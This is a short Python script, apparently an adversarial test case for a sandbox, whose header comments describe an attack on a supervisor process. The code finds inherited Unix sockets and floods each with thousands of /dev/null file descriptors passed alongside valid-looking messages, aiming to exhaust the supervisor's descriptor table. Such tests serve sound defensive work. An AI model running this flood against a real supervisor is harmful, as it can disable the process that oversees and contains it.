# class: recorder
# attack: send descriptors of ours to the supervisor, with messages that are true: its own table fills, or it opens what it got
# success: more stay open there than one line may carry, or the line answers
# ends: protocol
import os
import socket
import stat
import struct


def message(*fields):
    body = b"".join(struct.pack(">I", len(field)) + field for field in fields)
    return struct.pack(">I", len(body)) + body


REPORT = message(b"imports", b"", b"0", b"", b"0", b"", b"0")
sent = 0
for number in range(3, 1024):
    try:
        if not stat.S_ISSOCK(os.fstat(number).st_mode):
            continue
    except OSError:
        continue
    line = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, number)
    line.setblocking(False)
    given = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
    for _ in range(40):
        try:
            socket.send_fds(line, [REPORT], given)
            sent += len(given)
        except OSError:
            break
    line.setblocking(True)
    line.detach()
print("held: of", sent, "descriptors sent none is asked for")
